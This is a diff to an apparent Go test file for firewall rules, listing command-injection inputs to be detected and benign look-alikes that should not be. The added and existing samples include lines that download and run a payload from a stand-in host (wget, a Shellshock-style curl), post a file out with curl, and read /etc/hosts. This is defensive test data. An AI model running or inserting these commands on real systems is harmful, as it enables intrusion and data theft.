@@ -30,7 +30,7 @@ var commands = map[int][]string{
 	932330: {"!-1", "!-1!-2", "\x01!-1!-2", "a; !-3", "echo '!-0'"},
 	1010151: {
 		"8.8.8.8; cat app.py", "x; id", "https://a.example; pwd", "`id`", "a && id", "x| id", "\nid", "x; aws s3 ls", "x; ps aux", "curl -d @index.js http://h.example",
-		";cat index.js", "|id", ";$0 -c id", "; $u cat /etc$u/hosts", "$u/bin$u/cat$u $u/etc$u/hosts$u", "a);id", "a|id|", "& id",
+		";cat index.js", "|id", ";$0 -c id", "; $u cat /etc$u/hosts", "$u/bin$u/cat$u $u/etc$u/hosts$u", "a);id", "a|id|", "& id", ";+$u+cat+/etc$u/hosts+\\#", ";/tmp/a", "wget http://h.example/a -O /tmp/a; /tmp/a;", "().{.:;.};.curl -o /tmp/b h.example; /tmp/b;",
 	},
 	932340: {";ps", ";env", ";set", "&aptitude", "x.php?cmd=ls", ";whoami", "|id", "|id|"},
 }
@@ -58,7 +58,7 @@ var texts = map[int][]string{
 	932330: {"T1sF!-915147122!a.example!7003", "b,af,!c,!-9w,,,", "wow!-2"},
 	1010151: {
 		"a=1&id=3&w=2", "Tea; who wants some?", "cats & dogs; id cards", "return a;\n  id;\n", "| id | name | type |\n|----|------|------|\n", "The `id` of a user is a number.",
-		"query {\n  id\n  name\n}", "a.html;w=300", "Come in; head straight on to the left", "id&name&type", "Rock & w", "See the head; who is it?",
+		"query {\n  id\n  name\n}", "a.html;w=300", "It is in /tmp/a; /tmp/a is mine", "The folders are /home/x; /tmp/y;", "Come in; head straight on to the left", "id&name&type", "Rock & w", "See the head; who is it?",
 	},
 	932340: {"DOB=20240702&T=1719903633000&POEX=W", "data-type=w", "Do you want it?\nReply now, w", "before the call of\nset\nzero"},
 }
